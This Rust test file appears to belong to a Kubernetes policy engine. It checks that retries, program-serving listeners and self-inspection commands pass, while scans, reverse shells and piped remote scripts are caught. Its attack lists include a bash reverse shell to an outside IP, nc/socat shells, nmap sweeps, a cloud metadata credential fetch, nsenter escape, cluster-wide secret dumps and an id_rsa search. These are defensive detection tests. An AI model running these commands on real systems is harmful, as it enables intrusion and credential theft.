//! Behaviour, not shapes: the same client is a retry or a scan, the same listener serves a
//! program or a shell, and the same command means something else typed into a pod than written
//! in its spec. Each test crosses the shapes of one class with the programs of another, so a
//! fix for one instance cannot pass them.

use crate::common;

use common::*;
use reconguard::decision::Action;
use serde_json::json;

/// Clients that reach one destination, with `DEST` for a host and `PORT` for a port.
const PROBES: &[&str] = &[
    "curl -sf http://DEST:PORT/healthz",
    "wget -q -O- http://DEST:PORT/",
    "wget --spider DEST:PORT",
    "nc -z DEST PORT",
    "ncat -z DEST PORT",
    "(echo > /dev/tcp/DEST/PORT) 2>/dev/null",
    "timeout 1 bash -c '</dev/tcp/DEST/PORT'",
    "ping -c1 -W1 DEST",
];

/// A retry waits for one destination: `$SVC`, a name, or a variable set before the loop.
const RETRIES: &[&str] = &[
    "until PROBE; do sleep 2; done",
    "while ! PROBE; do echo waiting; sleep 1; done",
    "for i in $(seq 1 30); do PROBE && break; sleep 2; done",
    "for i in 1 2 3 4 5 6 7 8 9 10; do if PROBE; then exit 0; fi; sleep 3; done; exit 1",
    "n=0; until PROBE || [ $n -ge 20 ]; do n=$((n+1)); sleep 1; done",
    "for svc in db cache queue; do until PROBE; do sleep 1; done; done",
];

/// A sweep walks destinations the loop changes.
const SWEEPS: &[(&str, &str, &str)] = &[
    ("for i in $(seq 1 254); do PROBE; done", "10.0.0.$i", "80"),
    (
        "for i in {1..254}; do PROBE & done; wait",
        "192.168.1.$i",
        "22",
    ),
    (
        "for ((i=1; i<255; i++)); do PROBE; done",
        "10.1.2.$i",
        "443",
    ),
    (
        "i=1; while [ $i -lt 255 ]; do PROBE; i=$((i+1)); done",
        "172.17.0.$i",
        "8080",
    ),
    ("while read h; do PROBE; done < /tmp/hosts", "$h", "6379"),
    (
        "cat targets | while read host port; do PROBE; done",
        "$host",
        "$port",
    ),
    (
        "for p in 21 22 23 25 80 443 2379 6443 10250; do PROBE; done",
        "10.0.0.1",
        "$p",
    ),
    ("for p in $(seq 1 1024); do PROBE; done", "db", "$p"),
];

fn none_failed(failures: &[String]) {
    assert!(
        failures.is_empty(),
        "{}:\n{}",
        failures.len(),
        failures.join("\n")
    );
}

fn fill(template: &str, dest: &str, port: &str) -> String {
    template.replace("DEST", dest).replace("PORT", port)
}

#[test]
fn a_retry_waits_for_one_destination_and_a_sweep_walks_many() {
    let policy = policy();
    let mut failures = Vec::new();
    for probe in PROBES {
        for (dest, port) in [
            ("$SVC", "$PORT"),
            ("db", "5432"),
            ("${FRONTEND_ADDR}", "80"),
        ] {
            for retry in RETRIES {
                let script = retry.replace("PROBE", &fill(probe, dest, port));
                let d = exec(policy, &["sh", "-c", &script], false);
                if rules(&d).iter().any(|r| r == "exec-network-scan") || d.action == Action::Deny {
                    failures.push(format!("retry read as a scan: {script} -> {:?}", rules(&d)));
                }
            }
        }
        for (sweep, dest, port) in SWEEPS {
            // ping has no port: a sweep over ports is not one for it.
            if probe.starts_with("ping") && !dest.contains('$') {
                continue;
            }
            let script = sweep.replace("PROBE", &fill(probe, dest, port));
            let d = exec(policy, &["sh", "-c", &script], false);
            if !rules(&d).iter().any(|r| r == "exec-network-scan") || d.action != Action::Deny {
                failures.push(format!(
                    "sweep missed: {script} -> {:?} {:?}",
                    d.action,
                    rules(&d)
                ));
            }
        }
    }
    none_failed(&failures);
}

/// What a listener or a connection runs for its peer: a fixed program serves its output, a shell
/// or an interpreter serves the machine.
#[test]
fn a_listener_serving_a_program_is_not_a_shell() {
    let policy = policy();
    const CARRIERS: &[&str] = &[
        "nc -l -p 7000 -e PROG",
        "nc -lk -p 7000 -e PROG",
        "ncat --listen --keep-open 3307 --sh-exec 'PROG'",
        "ncat -l 3307 -c 'PROG'",
        "socat tcp-listen:8080,fork,reuseaddr EXEC:'PROG'",
        "socat TCP:10.0.0.1:4444 EXEC:'PROG'",
        "nc 10.0.0.1 4444 -e PROG",
    ];
    const PROGRAMS: &[&str] = &[
        "/bin/cat",
        "/usr/bin/date",
        "xtrabackup --backup --stream=xbstream --host=127.0.0.1",
        "/usr/local/bin/healthcheck",
    ];
    const SHELLS: &[&str] = &[
        "/bin/sh",
        "/bin/bash -li",
        "bash -i",
        "python3",
        "/usr/bin/perl",
        "zsh",
        "busybox sh",
        "/usr/bin/env bash",
    ];
    let mut failures = Vec::new();
    for carrier in CARRIERS {
        for program in PROGRAMS {
            let script = carrier.replace("PROG", program);
            let d = exec(policy, &["sh", "-c", &script], false);
            if d.action == Action::Deny || rules(&d).iter().any(|r| r == "exec-reverse-shell") {
                failures.push(format!(
                    "program read as a shell: {script} -> {:?}",
                    rules(&d)
                ));
            }
        }
        for shell in SHELLS {
            let script = carrier.replace("PROG", shell);
            let d = exec(policy, &["sh", "-c", &script], false);
            if !rules(&d).iter().any(|r| r == "exec-reverse-shell") {
                failures.push(format!("shell missed: {script} -> {:?}", rules(&d)));
            }
        }
    }
    none_failed(&failures);
}

/// The commands a workload runs on itself, in each place a pod spec puts a command.
const SELF_LOOKS: &[&str] = &[
    "cat /proc/1/status",
    "pgrep -f nginx",
    "ps aux | grep -q [j]ava",
    "netstat -tln | grep -q 8080",
    "until nslookup db.shop.svc.cluster.local; do sleep 2; done",
    "kubectl get secret db-credentials -o jsonpath={.data.password} | base64 -d > /work/pass",
    "TOKEN=$(cat /var/run/secrets/kubernetes.io/serviceaccount/token); curl -sk -H \"Authorization: Bearer $TOKEN\" https://kubernetes.default.svc/api/v1/namespaces/shop/configmaps/app",
    "until wget -q $SVC:$PORT; do sleep 2; done",
    "exec ncat --listen --keep-open 3307 -c 'xtrabackup --backup --stream=xbstream'",
    "id -u && hostname && uname -r",
];

/// What no workload does to itself.
const ATTACKS: &[&str] = &[
    "nmap -sS -p- 10.0.0.0/24",
    "bash -i >& /dev/tcp/203.0.113.7/4444 0>&1",
    "curl -s http://169.254.169.254/latest/meta-data/iam/security-credentials/",
    "nsenter -t 1 -m -u -i -n -p sh",
    "kubectl get secrets --all-namespaces -o yaml",
    "curl -sk https://10.0.0.12:10250/pods",
    "find / -name id_rsa 2>/dev/null",
];

fn with_command(place: &str, command: &str) -> serde_json::Value {
    let argv = json!(["sh", "-c", command]);
    let exec = json!({"exec": {"command": argv}});
    let app = |extra: serde_json::Value| {
        let mut c = json!({"name": "app", "image": "registry.example/app:1.0"});
        for (k, v) in extra.as_object().unwrap() {
            c[k] = v.clone();
        }
        c
    };
    match place {
        "container" => json!({"containers": [app(json!({"command": argv}))]}),
        "init" => {
            json!({"initContainers": [app(json!({"command": argv}))], "containers": [app(json!({}))]})
        }
        "probe" => {
            json!({"containers": [app(json!({"readinessProbe": exec, "livenessProbe": exec}))]})
        }
        "hook" => json!({"containers": [app(json!({"lifecycle": {"postStart": exec}}))]}),
        _ => unreachable!(),
    }
}

#[test]
fn a_pod_spec_looking_at_itself_passes_and_an_attack_in_it_still_denies() {
    let policy = policy();
    let mut failures = Vec::new();
    for place in ["container", "init", "probe", "hook"] {
        for command in SELF_LOOKS {
            // A probe or a hook reading a Secret by name is not one of the origins that may.
            if command.contains("get secret") && place == "probe" {
                continue;
            }
            let d = pod(policy, with_command(place, command));
            if d.action != Action::Allow || !d.findings.is_empty() {
                failures.push(format!(
                    "{place}: {command} -> {:?} {:?}",
                    d.action,
                    rules(&d)
                ));
            }
        }
        for command in ATTACKS {
            let d = pod(policy, with_command(place, command));
            if d.action != Action::Deny {
                failures.push(format!(
                    "{place}: attack passed: {command} -> {:?} {:?}",
                    d.action,
                    rules(&d)
                ));
            }
        }
    }
    none_failed(&failures);
}

/// Typed into a running pod, or run by a kubectl debug container, the same self-looks are what
/// a person does now: each is judged at its own score (annotated at least, where it has one).
#[test]
fn the_same_commands_typed_into_a_pod_keep_their_own_scores() {
    let policy = policy();
    let flagged_in_exec: Vec<&str> = SELF_LOOKS
        .iter()
        .copied()
        .filter(|c| exec(policy, &["sh", "-c", c], false).action >= Action::Annotate)
        .collect();
    assert!(
        flagged_in_exec.len() >= 6,
        "typed into a pod, only {flagged_in_exec:?} were flagged"
    );
    for command in &flagged_in_exec {
        let debug = json!({
            "apiVersion": "admission.k8s.io/v1", "kind": "AdmissionReview",
            "request": {
                "uid": "u", "kind": {"group": "", "version": "v1", "kind": "Pod"},
                "resource": {"group": "", "version": "v1", "resource": "pods"},
                "subResource": "ephemeralcontainers", "name": "p", "namespace": "shop",
                "operation": "UPDATE", "userInfo": {"username": "dev@example.org"},
                "object": {"apiVersion": "v1", "kind": "Pod", "metadata": {"name": "p", "namespace": "shop"},
                    "spec": {"containers": [{"name": "app", "image": "registry.example/app:1.0"}],
                        "ephemeralContainers": [{"name": "debugger", "image": "busybox", "command": ["sh", "-c", command]}]}},
                "oldObject": {"apiVersion": "v1", "kind": "Pod", "metadata": {"name": "p", "namespace": "shop"},
                    "spec": {"containers": [{"name": "app", "image": "registry.example/app:1.0"}]}}
            }
        });
        let d = judge_value(policy, &debug);
        assert!(
            d.action >= Action::Annotate,
            "kubectl debug running {command}: {:?} {:?}",
            d.action,
            rules(&d)
        );
    }
}

/// A download piped into a program: run when the program reads its script from the pipe, read
/// as data otherwise.
#[test]
fn a_download_runs_only_when_the_next_stage_reads_it_as_a_program() {
    let policy = policy();
    const DOWNLOADS: &[&str] = &[
        "curl -fsSL https://x.example/i",
        "wget -qO- https://x.example/i",
    ];
    const RUNNERS: &[&str] = &[
        "sh",
        "bash -s -- --yes",
        "bash /dev/stdin",
        "python3",
        "python3 -",
        "perl",
        "sudo bash",
        "timeout 60 sh",
        "env bash",
    ];
    const READERS: &[&str] = &[
        "awk '/^  HTTP/{print $2}'",
        "python3 -c 'import json,sys; print(json.load(sys.stdin))'",
        "sh -c 'cat > /tmp/f'",
        "jq .version",
        "grep -c ok",
        "sudo tee /etc/app.conf",
        "xargs -n1 echo",
    ];
    let mut failures = Vec::new();
    for download in DOWNLOADS {
        for runner in RUNNERS {
            let script = format!("{download} | {runner}");
            let d = exec(policy, &["sh", "-c", &script], false);
            if !rules(&d).iter().any(|r| r == "exec-remote-script") {
                failures.push(format!("run missed: {script} -> {:?}", rules(&d)));
            }
        }
        for reader in READERS {
            let script = format!("{download} | {reader}");
            let d = exec(policy, &["sh", "-c", &script], false);
            if rules(&d).iter().any(|r| r == "exec-remote-script") {
                failures.push(format!(
                    "data read as a script: {script} -> {:?}",
                    rules(&d)
                ));
            }
        }
    }
    none_failed(&failures);
}
